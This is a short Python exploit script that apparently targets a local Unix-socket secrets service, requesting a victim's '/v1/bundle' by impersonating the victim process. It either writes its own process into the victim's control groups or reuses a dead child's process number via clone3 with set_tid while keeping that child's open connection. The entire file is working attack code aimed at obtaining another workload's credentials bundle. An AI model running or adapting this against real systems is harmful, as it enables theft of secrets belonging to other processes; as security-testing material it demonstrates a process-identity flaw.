"""python3 -c … SOCKET VICTIM moved|reused: asks for the victim's bundle as a process that was put into the victim's control
groups; `reused` asks over a connection that an earlier process of the same number has made."""

import ctypes, os, socket, struct, sys

path, victim, how = sys.argv[1], sys.argv[2], sys.argv[3]
REQUEST = b"GET /v1/bundle HTTP/1.1\r\nHost: x\r\nX-Chandlery-Request: true\r\nConnection: close\r\n\r\n"
libc = ctypes.CDLL(None, use_errno=True)


def connect():
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(path)
    return connection


def ask(connection):
    connection.sendall(REQUEST)
    answer = b""
    while part := connection.recv(65536):
        answer += part
    print(answer.decode(), flush=True)


def join(pid):
    """Into the control groups that the victim is in, of whichever version."""
    for line in open(f"/proc/{victim}/cgroup"):
        _, controllers, group = line.strip().split(":", 2)
        for place in {controllers, controllers.removeprefix("name="), "unified", ""}:
            procs = f"/sys/fs/cgroup/{place}{group}/cgroup.procs"
            if group != "/" and os.path.exists(procs):
                open(procs, "w").write(str(pid))


def process_with_number(pid):
    """clone3(2) with set_tid: a sleeping child of exactly this number."""
    numbers = (ctypes.c_int * 1)(pid)
    # flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, set_tid, set_tid_size, cgroup
    arguments = struct.pack("=11Q", 0, 0, 0, 0, 17, 0, 0, 0, ctypes.addressof(numbers), 1, 0)
    made = libc.syscall(435, ctypes.create_string_buffer(arguments), len(arguments))
    if made == 0:
        os.execv("/bin/sleep", ["sleep", "20"])
    if made != pid:
        raise OSError(ctypes.get_errno(), "clone3")


if how == "moved":
    child = os.fork()
    if child == 0:
        join(os.getpid())
        ask(connect())
        os._exit(0)
    os.waitpid(child, 0)
else:
    # The connection is made by a child that ends, and kept by this process.
    ours, theirs = socket.socketpair(socket.AF_UNIX)
    first = os.fork()
    if first == 0:
        connection = connect()
        socket.send_fds(theirs, [b"x"], [connection.fileno()])
        os._exit(0)
    theirs.close()
    _, [descriptor], _, _ = socket.recv_fds(ours, 1, 1)
    os.waitpid(first, 0)
    process_with_number(first)
    join(first)
    ask(socket.socket(fileno=descriptor))
    os.kill(first, 9)
    os.waitpid(first, 0)
